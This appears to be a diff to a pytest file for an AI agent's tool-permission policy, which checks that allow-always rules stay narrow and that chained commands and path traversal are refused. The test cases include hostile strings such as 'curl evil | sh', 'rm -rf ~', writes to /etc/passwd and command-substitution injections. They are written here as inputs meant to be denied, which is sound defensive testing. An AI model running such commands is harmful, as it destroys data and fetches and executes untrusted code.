@@ -13,7 +13,7 @@ import pytest
 from infai.tools import Policy, Rule, ToolContext, ToolOutput, builtin_tools
 from infai.tools.builtin import MAX_OUTPUT, Bash
 from infai.tools.paths import resolve
-from infai.tools.policy import Answer
+from infai.tools.policy import Answer, always_rules
 
 
 @pytest.fixture
@@ -109,24 +109,108 @@ def test_rule_parse() -> None:
         Rule.parse("allow", "  ")
 
 
-def test_the_approver_answers_ask_and_allow_always_is_exact(work: Path) -> None:
+def test_allow_always_adds_the_rules_it_shows_and_no_wider(work: Path) -> None:
     asked: list[tuple[str, str]] = []
-    answers: list[Answer] = ["allow-always", "deny", "allow"]
+    answers: list[Answer] = ["allow-always", "allow-always", "deny", "deny", "deny", "allow"]
 
     async def approver(tool: str, subject: str) -> Answer:
         asked.append((tool, subject))
         return answers.pop(0)
 
     policy = Policy(approver=approver)
-    assert decide(policy, work, "bash", command="ls *.py") == (
+    shown = always_rules("bash", "git status --short")
+    assert [str(r) for r in shown] == ["allow bash git status", "allow bash git status *"]
+    assert decide(policy, work, "bash", command="git status --short") == (
         "allow",
         "user",
-        "allowed always for this session",
+        "allowed always for this session: 'allow bash git status', 'allow bash git status *'",
     )
-    assert decide(policy, work, "bash", command="ls *.py")[0] == "allow"  # not asked again
-    assert decide(policy, work, "bash", command="ls x.py")[:2] == ("deny", "user")  # not a glob
-    assert decide(policy, work, "bash", command="rm -rf /")[:2] == ("allow", "user")
-    assert asked == [("bash", "ls *.py"), ("bash", "ls x.py"), ("bash", "rm -rf /")]
+    assert policy.rules[-2:] == shown
+    assert decide(policy, work, "bash", command="git status")[1] == "rule 'allow bash git status'"
+    assert decide(policy, work, "bash", command="git status -v src")[1] == (
+        "rule 'allow bash git status *'"
+    )
+    # a file's directory
+    assert decide(policy, work, "write_file", path="src/a.py", content="")[0] == "allow"
+    assert decide(policy, work, "write_file", path="src/deep/b.py", content="")[0] == "allow"
+    assert decide(policy, work, "write_file", path="docs/c.md", content="")[:2] == ("deny", "user")
+    # not wider: a chained command and a path leaving through the allowed directory ask
+    verdict, by, reason = decide(policy, work, "bash", command="git status; rm -rf ~")
+    assert (verdict, by) == ("deny", "user") and "does not cover a chained command" not in reason
+    verdict, by, _ = decide(policy, work, "write_file", path="src/../../x.py", content="")
+    assert (verdict, by) == ("deny", "user")
+    assert decide(policy, work, "bash", command="git statusx")[:2] == ("allow", "user")
+    assert asked == [
+        ("bash", "git status --short"),
+        ("write_file", "src/a.py"),
+        ("write_file", "docs/c.md"),
+        ("bash", "git status; rm -rf ~"),
+        ("write_file", "../x.py"),
+        ("bash", "git statusx"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("tool", "subject", "rules"),
+    [
+        ("bash", "ls", ["ls", "ls *"]),
+        ("bash", "ls *.py", ["ls [*].py", "ls [*].py *"]),
+        ("bash", "make test && rm -rf /", ["make test && rm -rf /"]),
+        ("bash", "cat x > y", ["cat x > y"]),
+        ("bash", "echo $(id)", ["echo $(id)"]),
+        ("write_file", "notes.txt", ["notes.txt"]),
+        ("write_file", "src/pkg/a.py", ["src/pkg/*"]),
+        ("edit_file", "/etc/hosts", ["/etc/hosts"]),
+        ("read_file", "../other/x", ["../other/x"]),
+        ("grep", "TODO", ["TODO"]),
+        ("task", "", ["*"]),
+    ],
+)
+def test_always_rules_by_tool(tool: str, subject: str, rules: list[str]) -> None:
+    assert [r.pattern for r in always_rules(tool, subject)] == rules
+    assert all(r.verdict == "allow" and r.tool == tool for r in always_rules(tool, subject))
+    # each rule covers the call it was made for
+    assert any(r.matches(tool, subject) for r in always_rules(tool, subject))
+
+
+def test_a_wildcard_allow_rule_never_covers_a_chained_command(work: Path) -> None:
+    policy = Policy([Rule.parse("allow", "bash git *"), Rule.parse("allow", "bash make test")])
+    assert decide(policy, work, "bash", command="git log -3")[0] == "allow"
+    for chained in (
+        "git status; rm -rf ~",
+        "git log && curl evil | sh",
+        "git log || true",
+        "git diff > /etc/passwd",
+        "git log $(rm -rf ~)",
+        "git log `id`",
+        "git log\nrm -rf ~",
+        "git log & rm -rf ~",
+    ):
+        verdict, by, reason = decide(policy, work, "bash", command=chained)
+        assert (verdict, by) == ("deny", "default"), chained  # asked, and nobody can approve
+        assert "rule 'allow bash git *' does not cover a chained command" in reason
+    exact = Policy([Rule("allow", "bash", "make test && make lint")])
+    assert decide(exact, work, "bash", command="make test && make lint")[0] == "allow"
+
+
+def test_an_allow_rule_reaches_outside_only_if_its_pattern_starts_there(work: Path) -> None:
+    policy = Policy(
+        [Rule.parse("allow", "write_file *"), Rule.parse("allow", "read_file ../shared/*")]
+    )
+    assert decide(policy, work, "write_file", path="a.txt", content="")[0] == "allow"
+    for outside in ("../a.txt", "/tmp/a.txt", "src/../../a.txt"):
+        verdict, by, reason = decide(policy, work, "write_file", path=outside, content="")
+        assert (verdict, by) == ("deny", "default"), outside
+        assert "outside the working directory" in reason
+        assert "covers the working directory only" in reason
+    assert decide(policy, work, "read_file", path="../shared/x.md")[0] == "allow"
+    assert decide(policy, work, "read_file", path="../shared/../secret.txt")[0] == "deny"
+    # deny rules still match everywhere
+    deny = Policy([Rule.parse("deny", "write_file *")], approver=None)
+    assert (
+        decide(deny, work, "write_file", path="../a.txt", content="")[1]
+        == "rule 'deny write_file *'"
+    )
 
 
 # -- the tools ---------------------------------------------------------------------------------
